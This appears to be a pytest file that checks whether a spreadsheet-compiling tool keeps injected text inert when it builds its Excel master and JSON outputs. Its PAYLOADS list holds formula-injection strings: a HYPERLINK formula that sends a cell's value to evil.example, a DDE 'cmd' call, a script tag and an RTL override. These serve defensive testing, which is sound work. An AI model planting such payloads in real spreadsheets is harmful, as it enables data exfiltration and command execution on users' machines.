"""Nothing injected: text from returns and the catalogue reaches the outputs as text only.

Formula-looking text (=, +, -, @, DDE), markup, control characters, right-to-left
overrides and a lone surrogate are put in a text answer, an unknown key, a rejected cell
and the catalogue's titles; the master is read back part by part (no <f> holds them, no
cell holding them is a formula, in any sheet or comment) and the JSON must load.
"""

from __future__ import annotations

import json
import re
import zipfile

import openpyxl

from tests.robustness.build import TP, edit_book, locate, set_cell_xml
from tests.robustness.conftest import Space, compile_in, read_master

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "<script>alert(1)</script> &amp; ]]>",
)
CT = "counter-terrorism"


def as_text(ws, ref: str, text: str) -> None:
    """Type text as text, as Excel stores '=... typed with a leading apostrophe."""
    ws[ref] = text
    ws[ref].data_type = "s"


def test_text_stays_text_in_every_output(space: Space) -> None:
    milestones = locate(CT, "ct-milestones", "progress", "2008-07")

    def ct(wb: openpyxl.Workbook) -> None:
        as_text(wb["Return"], milestones, PAYLOADS[0])

    edit_book(space.path(CT), ct)

    def tp(wb: openpyxl.Workbook) -> None:
        ws = wb["Return"]
        as_text(ws, "AH5", PAYLOADS[1])  # rejected: not a number, quoted in the message
        ws.insert_rows(6, 2)
        as_text(ws, "A6", PAYLOADS[2])  # an unknown key, quoted in the message
        ws["AH6"] = 1
        ws["A7"] = "spi-5-2"
        as_text(ws, "C7", PAYLOADS[3])  # an unknown measure, quoted in the message
        ws["AH7"] = 1

    edit_book(space.tp, tp)
    # A control character and a lone surrogate, as OOXML escapes them.
    set_cell_xml(space.tp, "AH8", "<is><t>bell_x0007_ and _xD800_ half</t></is>", "inlineStr")
    text = space.config.read_text(encoding="utf-8")
    text = text.replace(
        'title: "Reduce serious acquisitive crime"', f"title: {json.dumps(PAYLOADS[4])}", 1
    )
    text = text.replace('label: "CPA & SPI 5.2"', f"label: {json.dumps(PAYLOADS[5])}", 1)
    text = text.replace('name: "Metropolitan Police Service"', 'name: "=1+1 \\u202eMPS"', 1)
    space.write_config(text)

    run = compile_in(space)
    assert run.exit == 1
    assert all("\u202e" not in line and "\x07" not in line for line in run.lines)

    # The master: every payload is there, and only as text.
    master = read_master(space.master)
    joined = "\n".join(master.texts)
    for payload in PAYLOADS:
        assert payload in joined or _clipped(payload) in joined, payload
    book = openpyxl.load_workbook(space.master)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(p in cell.value for p in PAYLOADS):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(space.master) as archive:
        for name in archive.namelist():
            if not name.endswith(".xml"):
                continue
            xml = archive.read(name).decode("utf-8")
            for formula in re.findall(r"<f[^>]*>(.*?)</f>", xml, re.S):
                assert not any(_xml(p) in formula for p in PAYLOADS), (name, formula)
            assert "<script>" not in xml  # markup escaped, never raw

    # The JSON: valid, and holds the text as given.
    data = json.loads(space.json.read_text(encoding="utf-8"))
    indicators = {i["key"]: i for i in data["indicators"]}
    assert indicators["ct-milestones"]["value"] == PAYLOADS[0]
    assert indicators["spi-5-2"]["title"] == PAYLOADS[4]
    assert data["organisation"] == "=1+1 \u202eMPS"
    messages = " ".join(p["message"] for p in data["problems"])
    assert "bell" in messages


def _clipped(text: str) -> str:
    """Messages quote at most 40 characters of a cell."""
    return text[:39]


def _xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def test_tp_is_still_compiled_beside_the_injection(space: Space) -> None:
    edit_book(space.tp, lambda wb: wb["Return"].__setitem__("AQ5", "=HYPERLINK(1)"))
    run = compile_in(space)
    # Outside the form: reported by its address and its formula's words, never run.
    assert run.exit == 1
    assert "Return!AQ5: warning [stray-cell] AQ5 holds '=HYPERLINK(1)'" in run.stderr
    assert read_master(space.master).data_issues() == set()
    assert TP in space.tp.name
